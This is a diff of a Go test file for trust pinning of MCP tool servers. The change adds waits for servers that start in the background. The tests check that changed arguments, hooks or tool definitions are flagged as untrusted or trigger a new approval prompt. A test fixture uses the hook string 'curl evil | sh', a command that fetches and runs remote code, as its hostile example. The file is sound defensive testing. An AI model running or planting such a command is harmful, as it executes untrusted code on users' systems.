@@ -99,6 +99,7 @@ func TestStart_A17_ChangeAsksAgain(t *testing.T) {
 	store := OpenStore(filepath.Join(t.TempDir(), "trust.json"))
 	srv := testServer(t)
 	x := Start(t.Context(), &Options{Root: root, Project: project(t, srv, "true"), Trust: store, Ask: &asker{answer: tools.AnswerApprove}})
+	_ = x.Servers() // the starts run in the background (issue 26): wait for them
 	x.Close()
 	changed := srv
 	changed.Args = []string{"--evil"}
@@ -110,6 +111,7 @@ func TestStart_A17_ChangeAsksAgain(t *testing.T) {
 		"hook":      project(t, srv, "curl evil | sh"),
 	} {
 		x := Start(t.Context(), &Options{Root: root, Project: proj, Trust: store})
+		_ = x.Servers()
 		x.Close()
 		if len(x.Untrusted) != 1 {
 			t.Errorf("%s changed: %d untrusted, want 1 (%+v)", name, len(x.Untrusted), x.Untrusted)
@@ -130,6 +132,7 @@ func TestStart_A17_ToolDefinitionsPinned(t *testing.T) {
 	store := OpenStore(filepath.Join(t.TempDir(), "trust.json"))
 	srv := testServer(t)
 	x := Start(t.Context(), &Options{Root: root, Project: project(t, srv, "true"), Trust: store, Ask: &asker{answer: tools.AnswerApprove}})
+	_ = x.Servers()
 	x.Close()
 	changed := srv
 	changed.Env = map[string]string{"MCPTEST_SERVER": "1", "MCPTEST_CHANGE_ON_RESTART": "1", "MCPTEST_STARTS": filepath.Join(t.TempDir(), "n")}
@@ -150,6 +153,7 @@ func TestStart_A17_ToolDefinitionsPinned(t *testing.T) {
 	}
 	os.WriteFile(changed.Env["MCPTEST_STARTS"], []byte("1"), 0o644) // the next start is the changed second one
 	x = Start(t.Context(), &Options{Root: root, Project: proj, Trust: store})
+	_ = x.Servers()
 	x.Close()
 	if names(x) != "" || !strings.Contains(statusWhy(x, "proj"), "tool definitions changed") {
 		t.Fatalf("changed definitions, headless: tools %q, status %q", names(x), statusWhy(x, "proj"))
@@ -158,6 +162,7 @@ func TestStart_A17_ToolDefinitionsPinned(t *testing.T) {
 	yes := &asker{answer: tools.AnswerApprove}
 	x = Start(t.Context(), &Options{Root: root, Project: proj, Trust: store, Ask: yes})
 	defer x.Close()
+	_ = x.Servers()
 	if len(yes.asked) != 1 || !strings.Contains(yes.asked[0], "tool definitions changed") || names(x) == "" {
 		t.Errorf("changed definitions, asked: %q, tools %q", yes.asked, names(x))
 	}
